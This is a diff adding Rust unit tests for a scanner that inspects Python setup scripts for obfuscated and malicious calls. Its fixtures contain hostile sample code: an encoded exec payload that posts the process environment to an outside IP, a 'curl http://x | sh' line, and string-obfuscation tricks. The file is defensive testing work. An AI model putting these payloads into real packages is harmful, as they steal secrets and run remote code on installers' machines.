@@ -1,0 +1,92 @@
+use super::*;
+use crate::inspect::Role;
+
+fn analyse(src: &str) -> PyFile {
+    analyse_source("pkg/setup.py", Role::SetupScript, src.to_string(), 0)
+}
+
+fn call_names(f: &PyFile) -> Vec<&str> {
+    f.calls.iter().map(|c| c.name.as_str()).collect()
+}
+
+#[test]
+fn resolves_aliases() {
+    let f = analyse(
+        "import base64 as b\nfrom os import system as s\nimport urllib.request\nx = __import__('os')\n\
+         s('id')\nb.b64decode('aGk=')\nurllib.request.urlopen('http://x')\nx.popen('ls')\n\
+         getattr(x, 'sys' + 'tem')('id')\nimport builtins\nbuiltins.exec('1')\n",
+    );
+    let names = call_names(&f);
+    for want in ["os.system", "base64.b64decode", "urllib.request.urlopen", "os.popen", "exec"] {
+        assert!(names.contains(&want), "{want} not in {names:?}");
+    }
+    assert_eq!(names.iter().filter(|n| **n == "os.system").count(), 2, "{names:?}");
+}
+
+#[test]
+fn decodes_nested_payloads() {
+    // exec(zlib.decompress(base64.b64decode(...))) of code that reads the environment.
+    let inner = "import os, requests\nrequests.post('http://198.51.100.7/x', data=dict(os.environ))\n";
+    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+    std::io::Write::write_all(&mut z, inner.as_bytes()).unwrap();
+    use base64::Engine;
+    let blob = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
+    let f = analyse(&format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"));
+    assert_eq!(f.payloads.len(), 1, "{:?}", f.payloads);
+    let p = &f.payloads[0];
+    assert_eq!(p.sink, Sink::Exec);
+    assert_eq!(p.steps, vec!["base64", "zlib"]);
+    let code = p.code.as_ref().expect("decoded text analysed");
+    assert!(call_names(code).contains(&"requests.post"));
+    assert!(code.strings.iter().any(|s| s.value.contains("198.51.100.7")));
+}
+
+#[test]
+fn folds_obfuscated_strings() {
+    let f = analyse(
+        "x = ''.join([chr(c) for c in [104, 116, 116, 112]])\ny = 'moc.elpmaxe//:sptth'[::-1]\n\
+         z = bytes.fromhex('6576696c').decode()\nw = 'ht' + 'tp://' + 'a.b'\n",
+    );
+    let lits: Vec<&str> = f.strings.iter().map(|l| l.value.as_str()).collect();
+    assert!(lits.contains(&"http://a.b"), "{lits:?}");
+    let scope_src = "x = ''.join([chr(c) for c in [104, 105]])\nexec(x)\n";
+    let g = analyse(scope_src);
+    assert_eq!(g.payloads.len(), 0, "two bytes is below the payload floor");
+    let h = analyse("code = 'im' + 'port os; os.system(\"id\")'\nexec(code)\n");
+    assert_eq!(h.payloads.len(), 1);
+    assert!(call_names(h.payloads[0].code.as_ref().unwrap()).contains(&"os.system"));
+}
+
+#[test]
+fn tolerates_python2_and_garbage() {
+    let f = analyse("import os\nprint 'hello'\nos.system('curl http://x | sh')\n");
+    assert!(f.syntax_errors > 0);
+    assert!(call_names(&f).contains(&"os.system"));
+    let g = analyse("\u{0}\u{1}\u{2} def ((((( ))) ::: \n");
+    assert!(g.syntax_errors > 0);
+}
+
+#[test]
+fn scopes_and_stages() {
+    let f = analyse_source(
+        "pkg/mod.py",
+        Role::Module,
+        "import os\nos.getcwd()\ndef f():\n    os.system('x')\n".to_string(),
+        0,
+    );
+    let top = f.calls.iter().find(|c| c.name == "os.getcwd").unwrap();
+    assert_eq!((top.stage, top.scope), (Stage::Import, 0));
+    let inner = f.calls.iter().find(|c| c.name == "os.system").unwrap();
+    assert_eq!(inner.stage, Stage::Call);
+    assert_ne!(inner.scope, 0);
+}
+
+#[test]
+fn deep_nesting_does_not_overflow() {
+    let src = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
+    let handle = std::thread::Builder::new()
+        .stack_size(crate::inspect::STACK_SIZE)
+        .spawn(move || analyse(&src).syntax_errors)
+        .unwrap();
+    handle.join().expect("no stack overflow");
+}
